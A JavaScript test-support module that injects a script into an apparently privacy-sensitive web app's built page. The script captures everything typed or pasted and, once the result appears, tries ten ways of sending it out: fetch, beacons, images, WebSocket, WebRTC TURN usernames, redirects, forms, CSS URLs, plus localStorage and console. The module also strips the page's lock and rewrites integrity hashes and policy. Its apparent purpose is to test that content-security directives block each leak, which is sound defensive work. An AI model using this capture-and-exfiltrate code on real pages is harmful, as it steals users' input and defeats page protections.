// Ten pages that leak: the built page with a script that takes what is pasted and, once it is sealed, gets it out.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";

import { DIST } from "./server.mjs";

const SCRIPT = "leak.js";

/**
 * By its way out. `leak`: runs in the page. `seen`: what has to see it. `fence`: the directive that forbids it on the page as
 * it is; without one no policy can, and it is only seen.
 */
export const LEAKS = {
  fetch: {
    leak: ({ text, http }) => fetch(http, { method: "POST", mode: "no-cors", body: text }),
    seen: ["request", "other server", "net log", "a request", "what servers saw", "the bytes on sockets"],
    fence: "connect-src",
  },
  beacon: {
    leak: ({ text, http, base64 }) => { navigator.sendBeacon(http, base64(text)); },
    seen: ["request", "other server", "net log", "what servers saw", "the bytes on sockets"],
    fence: "connect-src",
  },
  image: {
    leak: ({ text, http }) => { new Image().src = `${http}?${encodeURIComponent(text)}`; },
    seen: ["request", "other server", "net log", "a request", "what servers saw", "the net log"],
    fence: "img-src",
  },
  WebSocket: {
    leak: ({ text, http }) => {
      const socket = new WebSocket(http.replace("http", "ws"));
      socket.onopen = () => socket.send(text);
    },
    seen: ["request", "other server", "net log", "a request"],
    fence: "connect-src",
  },
  WebRTC: {
    leak: async ({ text, udp, hex }) => {
      const username = hex(text).slice(0, 500);
      const relay = { urls: `turn:${udp}?transport=udp`, username, credential: "-" };
      const connection = new RTCPeerConnection({ iceServers: [relay] });
      connection.createDataChannel("");
      await connection.setLocalDescription(await connection.createOffer());
    },
    seen: ["other server"],
  },
  "leaving for another address": {
    leak: ({ text, http, base64 }) => {
      location.href = `${http}?${base64(text).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "")}`;
    },
    seen: ["request", "other server", "net log", "a request", "what servers saw"],
  },
  "a form": {
    leak: ({ text, http }) => {
      const form = document.createElement("form");
      Object.assign(form, { action: http, method: "post" });
      form.append(Object.assign(document.createElement("textarea"), { name: "q", value: text }));
      document.body.append(form);
      form.submit();
      form.remove();
    },
    seen: ["request", "other server", "net log", "a request", "what servers saw"],
    fence: "form-action",
  },
  "an address in a style": {
    leak: ({ text, http, hex }) => { document.body.style.backgroundImage = `url(${http}?${hex(text)})`; },
    seen: ["request", "other server", "net log", "a request", "what servers saw"],
    fence: "img-src",
  },
  localStorage: {
    leak: ({ text }) => { localStorage.setItem("draft", text); },
    seen: ["localStorage", "the profile"],
  },
  "the console": {
    leak: ({ text }) => { console.debug(text); },
    seen: ["console", "the console"],
  },
};

/** Runs in the page: keeps what is pasted, and once the result is there hands it to `leak`. */
function leakOnceSealed(leak, beyond) {
  let text = "";
  document.addEventListener("input", ({ target }) => { text = target.value || text; }, true);
  const bytes = (value) => new TextEncoder().encode(value);
  const tools = {
    ...beyond,
    base64: (value) => btoa(String.fromCharCode(...bytes(value))),
    hex: (value) => Array.from(bytes(value), (byte) => byte.toString(16).padStart(2, "0")).join(""),
  };
  new MutationObserver(async (_, observer) => {
    if (!document.getElementById("download")) return;
    observer.disconnect();
    try {
      await leak({ ...tools, text });
    } catch {
      // Forbidden; what matters is what the browser recorded of it.
    }
    document.documentElement.dataset.tried = "";
  }).observe(document, { childList: true, subtree: true });
}

/** What a server has to serve for the page with this leak; `fenced`: with its own policy and lock left in place. */
export function leaking(name, beyond, { fenced }) {
  const { http, udp } = beyond;
  const script = Buffer.from(`(${leakOnceSealed})(${LEAKS[name].leak}, ${JSON.stringify({ http, udp })});\n`);
  const boot = readdirSync(DIST).find((each) => /^boot-.*\.js$/.test(each));
  const plain = readFileSync(join(DIST, boot));
  const unlocked = Buffer.from(String(plain).replace(/^ *lock\(\);$/m, ""));
  assert.notEqual(unlocked.length, plain.length, "boot.js does not lock the page where this expects it");
  const tag = `<script crossorigin src="./${SCRIPT}" integrity="${integrity(script)}"></script>`;
  return {
    added: { [SCRIPT]: script, ...(fenced ? {} : { [boot]: unlocked }) },
    change: (file, bytes) => {
      if (file !== "index.html") return undefined;
      const html = String(bytes).replace("</title>", `</title>${tag}`);
      return Buffer.from(fenced ? html : html.replaceAll(integrity(plain), integrity(unlocked)));
    },
    ...(fenced ? {} : { policy: () => "script-src 'self' 'wasm-unsafe-eval'" }),
  };
}

function integrity(bytes) {
  return `sha384-${createHash("sha384").update(bytes).digest("base64")}`;
}
